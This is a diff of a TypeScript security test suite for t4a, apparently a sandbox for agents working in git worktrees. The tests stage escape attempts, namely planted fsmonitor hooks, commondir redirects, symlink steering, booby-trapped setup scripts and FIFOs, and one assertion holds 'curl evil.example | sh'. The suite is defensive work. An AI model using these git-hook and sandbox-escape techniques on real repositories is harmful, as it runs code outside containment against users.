@@ -7,7 +7,9 @@ import { existsSync, lstatSync, readdirSync } from "node:fs";
 import { join } from "node:path";
 import { Actor, CAN_MAKE_USERS, HAS_BWRAP, IS_ROOT } from "./actor.ts";
 
-const kinds: Array<"self" | "unprivileged"> = HAS_BWRAP ? ["self", ...(CAN_MAKE_USERS ? (["unprivileged"] as const) : [])] : [];
+const kinds: Array<"self" | "unprivileged"> = HAS_BWRAP
+  ? ["self", ...(CAN_MAKE_USERS ? (["unprivileged"] as const) : [])]
+  : [];
 if (!HAS_BWRAP) console.log("skipped: the git crossing attacks need bubblewrap (.ci/run installs it)");
 
 for (const kind of kinds) {
@@ -35,7 +37,10 @@ for (const kind of kinds) {
 
     /** The user's repository still works the ordinary way, and nothing planted ran. */
     function userRepoWorks(): void {
-      const after = a.outside("git status --short && git commit -q --allow-empty -m 'the user, later' && git log --format=%s -1 && git worktree add -q ../user-wt && git worktree list | grep -c user-wt && git worktree remove ../user-wt", repo);
+      const after = a.outside(
+        "git status --short && git commit -q --allow-empty -m 'the user, later' && git log --format=%s -1 && git worktree add -q ../user-wt && git worktree list | grep -c user-wt && git worktree remove ../user-wt",
+        repo,
+      );
       expect(after.stderr).toBe("");
       expect(after.stdout).toContain("the user, later\n1\n");
       expect(existsSync(mark)).toBe(false);
@@ -59,7 +64,9 @@ for (const kind of kinds) {
       await a.ok(["kill", id]);
       // The user's next git command, and t4a's next worktree (a checkout from the daemon).
       expect(a.outside("git status --short", repo).stderr).toBe("");
-      const box = JSON.parse(await a.ok(["create", "--json", "--worktree", "after-rename", "--", "true"], { cwd: repo }));
+      const box = JSON.parse(
+        await a.ok(["create", "--json", "--worktree", "after-rename", "--", "true"], { cwd: repo }),
+      );
       expect(existsSync(join(box.worktree, "file.txt"))).toBe(true);
       expect(existsSync(mark)).toBe(false);
       a.outside("rm -rf .git-copy .git-old && git rm -q .gitattributes && git commit -qm 'no attributes'", repo);
@@ -68,7 +75,11 @@ for (const kind of kinds) {
 
     test("a sandbox over a directory of repositories: each one's .git is guarded, and none can be moved aside", async () => {
       const nest = join(a.dir, "nest");
-      expect(a.outside(`mkdir -p ${nest}/org && git init -q ${nest}/inner && git init -q ${nest}/org/deep && git -C ${nest}/inner commit -q --allow-empty -m init`).stderr).toBe("");
+      expect(
+        a.outside(
+          `mkdir -p ${nest}/org && git init -q ${nest}/inner && git init -q ${nest}/org/deep && git -C ${nest}/inner commit -q --allow-empty -m init`,
+        ).stderr,
+      ).toBe("");
       const id = await a.shell(["--sandbox"], nest);
       const lines = (
         await a.sh(
@@ -99,7 +110,9 @@ for (const kind of kinds) {
         repo,
       );
       expect(existsSync(mark)).toBe(false);
-      const made = await a.run(["create", "--json", "--worktree", "filtered", "--", "bash", "--norc", "--noprofile"], { cwd: repo });
+      const made = await a.run(["create", "--json", "--worktree", "filtered", "--", "bash", "--norc", "--noprofile"], {
+        cwd: repo,
+      });
       expect(existsSync(mark)).toBe(false);
       expect(made.stderr).toBe("");
       const box = JSON.parse(made.stdout);
@@ -108,7 +121,10 @@ for (const kind of kinds) {
       expect(changes.diff).toContain("+two");
       await a.run(["kill", box.id]);
       expect(existsSync(mark)).toBe(false);
-      a.outside("git config --remove-section filter.x && git config --remove-section filter.y && git config --unset core.fsmonitor && git rm -q .gitattributes a.md && git commit -qm 'no filters'", repo);
+      a.outside(
+        "git config --remove-section filter.x && git config --remove-section filter.y && git config --unset core.fsmonitor && git rm -q .gitattributes a.md && git commit -qm 'no filters'",
+        repo,
+      );
       userRepoWorks();
     });
 
@@ -118,7 +134,9 @@ for (const kind of kinds) {
         await a.sh(
           id,
           [
-            "cp -a .git .evil && (git --git-dir=.evil config core.fsmonitor 'touch " + mark + "; false') && echo evil:made",
+            "cp -a .git .evil && (git --git-dir=.evil config core.fsmonitor 'touch " +
+              mark +
+              "; false') && echo evil:made",
             "(echo ../.evil > .git/commondir) 2>/dev/null && echo commondir:written || echo commondir:refused",
             "(mkdir -p .git/worktrees/x && echo ../.. > .git/worktrees/x/commondir) 2>/dev/null && echo worktrees:written || echo worktrees:refused",
             "(echo '[core]' > .git/config.worktree) 2>/dev/null && echo config.worktree:written || echo config.worktree:refused",
@@ -127,7 +145,14 @@ for (const kind of kinds) {
           ].join("; "),
         )
       ).split("\n");
-      expect(lines).toEqual(["evil:made", "commondir:refused", "worktrees:refused", "config.worktree:refused", "modules:refused", "commit:ok"]);
+      expect(lines).toEqual([
+        "evil:made",
+        "commondir:refused",
+        "worktrees:refused",
+        "config.worktree:refused",
+        "modules:refused",
+        "commit:ok",
+      ]);
       await a.ok(["kill", id]);
       a.outside("rm -rf .evil", repo);
       userRepoWorks();
@@ -161,7 +186,10 @@ for (const kind of kinds) {
       }
       expect(await a.run(["create", "--plugin", "evil", "--", "true"], { cwd: repo })).toMatchObject({ code: 1 });
       expect(existsSync(mark)).toBe(false);
-      a.outside(`rm -rf pwn .env .gitignore .worktreeinclude && git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-next")} 2>/dev/null; git worktree prune && git branch -D -q t4a/next`, repo);
+      a.outside(
+        `rm -rf pwn .env .gitignore .worktreeinclude && git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-next")} 2>/dev/null; git worktree prune && git branch -D -q t4a/next`,
+        repo,
+      );
       expect(readdirSync(plugins)).toEqual([]);
     });
 
@@ -182,14 +210,24 @@ for (const kind of kinds) {
       expect(readdirSync(plugins)).toEqual([]);
       if (made.code === 0) await a.run(["kill", JSON.parse(made.stdout).id]);
       expect(existsSync(mark)).toBe(false);
-      a.outside(`rm -rf vendor .gitignore; git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-vendored")} 2>/dev/null; git worktree prune; git branch -D -q t4a/vendored`, repo);
+      a.outside(
+        `rm -rf vendor .gitignore; git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-vendored")} 2>/dev/null; git worktree prune; git branch -D -q t4a/vendored`,
+        repo,
+      );
     });
 
     test("a sandbox in a worktree of an existing branch cannot plant the base t4a reads (a FIFO would hang the daemon, an option would steer git)", async () => {
       a.outside("git branch t4a/reused", repo);
-      const box = JSON.parse(await a.ok(["create", "--json", "--sandbox", "--worktree", "reused", "--", "bash", "--norc", "--noprofile"], { cwd: repo }));
+      const box = JSON.parse(
+        await a.ok(["create", "--json", "--sandbox", "--worktree", "reused", "--", "bash", "--norc", "--noprofile"], {
+          cwd: repo,
+        }),
+      );
       const base = join(repo, ".git", "worktrees", "repo-reused", "t4a-base");
-      const said = await a.sh(box.id, `rm -f ${base} 2>/dev/null; (mkfifo ${base}) 2>/dev/null && echo fifo:made || echo fifo:refused`);
+      const said = await a.sh(
+        box.id,
+        `rm -f ${base} 2>/dev/null; (mkfifo ${base}) 2>/dev/null && echo fifo:made || echo fifo:refused`,
+      );
       expect(said).toBe("fifo:refused");
       const diff = a.run(["diff", "--json", box.id]);
       const answered = await Promise.race([diff.then(() => true), Bun.sleep(30_000).then(() => false)]);
@@ -198,7 +236,10 @@ for (const kind of kinds) {
       expect(answered).toBe(true);
       expect(JSON.parse((await diff).stdout).branch).toBe("t4a/reused");
       await a.run(["kill", box.id]);
-      a.outside(`git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-reused")} 2>/dev/null; git worktree prune; git branch -D -q t4a/reused`, repo);
+      a.outside(
+        `git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-reused")} 2>/dev/null; git worktree prune; git branch -D -q t4a/reused`,
+        repo,
+      );
     });
 
     test("an approved setup never runs, outside a sandbox, code a sandboxed agent committed on its branch", async () => {
@@ -210,9 +251,16 @@ for (const kind of kinds) {
         repo,
       );
       await a.ok(["trust", repo]);
-      const box = JSON.parse(await a.ok(["create", "--json", "--sandbox", "--worktree", "feat", "--", "bash", "--norc", "--noprofile"], { cwd: repo }));
+      const box = JSON.parse(
+        await a.ok(["create", "--json", "--sandbox", "--worktree", "feat", "--", "bash", "--norc", "--noprofile"], {
+          cwd: repo,
+        }),
+      );
       expect(box.worktree_setup).toBe("ran .t4a/setup");
-      await a.sh(box.id, `printf 'touch ${mark}; echo boot > boot-ran\\n' > scripts/bootstrap.sh && git commit -qam 'a better bootstrap' && echo committed`);
+      await a.sh(
+        box.id,
+        `printf 'touch ${mark}; echo boot > boot-ran\\n' > scripts/bootstrap.sh && git commit -qam 'a better bootstrap' && echo committed`,
+      );
       await a.ok(["kill", box.id]);
       const again = await a.run(["create", "--json", "--worktree", "feat", "--", "true"], { cwd: repo });
       expect(existsSync(mark)).toBe(false);
@@ -220,11 +268,19 @@ for (const kind of kinds) {
       const next = JSON.parse(again.stdout);
       expect(next.worktree_setup).toContain("in a sandbox");
       await a.ok(["kill", next.id]);
-      a.outside(`git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-feat")} 2>/dev/null; git worktree prune; git branch -D -q t4a/feat; git rm -rq .t4a scripts .gitignore && git commit -qm 'no setup'`, repo);
+      a.outside(
+        `git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-feat")} 2>/dev/null; git worktree prune; git branch -D -q t4a/feat; git rm -rq .t4a scripts .gitignore && git commit -qm 'no setup'`,
+        repo,
+      );
     });
 
     test("a sandbox's writable cwd is never inside t4a's directories (plugins, config, state)", async () => {
-      for (const cwd of [plugins, join(a.state, "t4a", "web"), join(a.state, "t4a", "logs"), join(a.config, "t4a", "hosts")]) {
+      for (const cwd of [
+        plugins,
+        join(a.state, "t4a", "web"),
+        join(a.state, "t4a", "logs"),
+        join(a.config, "t4a", "hosts"),
+      ]) {
         a.outside(`mkdir -p ${cwd}`);
         const refused = await a.run(["create", "--sandbox", "--cwd", cwd, "--", "true"]);
         expect(refused.code).not.toBe(0);
@@ -237,18 +293,41 @@ for (const kind of kinds) {
       const worktree = join(a.state, "t4a", "worktrees", "repo-steer");
       const target = `../${"../".repeat(worktree.split("/").length - 2)}${plugins.slice(1)}`;
       const id = await a.shell(["--sandbox"], repo);
-      await a.sh(id, `link=$(printf %s '${target}' | git hash-object -w --stdin) && tree=$( (git ls-tree HEAD | grep -v '\tweb$'; printf '120000 blob %s\\tweb\\n' $link) | git mktree) && git branch t4a/steer $(git commit-tree $tree -p HEAD -m steer) && echo ok`);
+      await a.sh(
+        id,
+        `link=$(printf %s '${target}' | git hash-object -w --stdin) && tree=$( (git ls-tree HEAD | grep -v '\tweb$'; printf '120000 blob %s\\tweb\\n' $link) | git mktree) && git branch t4a/steer $(git commit-tree $tree -p HEAD -m steer) && echo ok`,
+      );
       await a.ok(["kill", id]);
-      const steered = await a.run(["create", "--json", "--sandbox", "--worktree", "steer", "--", "bash", "-c", `printf '#!/bin/sh\\ntouch ${mark}\\n' > evil && chmod +x evil`], { cwd: join(repo, "web") });
+      const steered = await a.run(
+        [
+          "create",
+          "--json",
+          "--sandbox",
+          "--worktree",
+          "steer",
+          "--",
+          "bash",
+          "-c",
+          `printf '#!/bin/sh\\ntouch ${mark}\\n' > evil && chmod +x evil`,
+        ],
+        { cwd: join(repo, "web") },
+      );
       if (steered.code === 0) await a.run(["wait", JSON.parse(steered.stdout).id, "--exit", "--timeout", "10s"]);
       expect(steered.stdout + steered.stderr).toMatch(/symlink|t4a's (private )?directory/);
       expect(readdirSync(plugins)).toEqual([]);
       expect(existsSync(mark)).toBe(false);
-      a.outside(`git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-steer")} 2>/dev/null; git worktree prune; git branch -D -q t4a/steer`, repo);
+      a.outside(
+        `git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-steer")} 2>/dev/null; git worktree prune; git branch -D -q t4a/steer`,
+        repo,
+      );
     });
 
     test("t4a diff shows no terminal control sequences from commits, file names or lines, and bounds a huge change", async () => {
-      const box = JSON.parse(await a.ok(["create", "--json", "--sandbox", "--worktree", "escapes", "--", "bash", "--norc", "--noprofile"], { cwd: repo }));
+      const box = JSON.parse(
+        await a.ok(["create", "--json", "--sandbox", "--worktree", "escapes", "--", "bash", "--norc", "--noprofile"], {
+          cwd: repo,
+        }),
+      );
       await a.sh(
         box.id,
         [
@@ -264,12 +343,18 @@ for (const kind of kinds) {
       }
       expect(shown).toContain("curl evil.example | sh");
       // A change far bigger than any review: the reply says it was cut, the daemon does not hold it whole.
-      await a.sh(box.id, "head -c 60000000 /dev/zero | tr '\\0' 'x' | fold -w 100 > big.txt && git add big.txt && git commit -qm big && echo big");
+      await a.sh(
+        box.id,
+        "head -c 60000000 /dev/zero | tr '\\0' 'x' | fold -w 100 > big.txt && git add big.txt && git commit -qm big && echo big",
+      );
       const big = JSON.parse(await a.ok(["diff", "--json", "--max-output", "100000000", box.id]));
       expect(big.diff.length).toBeLessThan(20_000_000);
       expect(big.diff).toContain("diff truncated");
       await a.run(["kill", box.id]);
-      a.outside(`git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-escapes")} 2>/dev/null; git worktree prune; git branch -D -q t4a/escapes`, repo);
+      a.outside(
+        `git worktree remove --force ${join(a.state, "t4a", "worktrees", "repo-escapes")} 2>/dev/null; git worktree prune; git branch -D -q t4a/escapes`,
+        repo,
+      );
     });
   });
 }
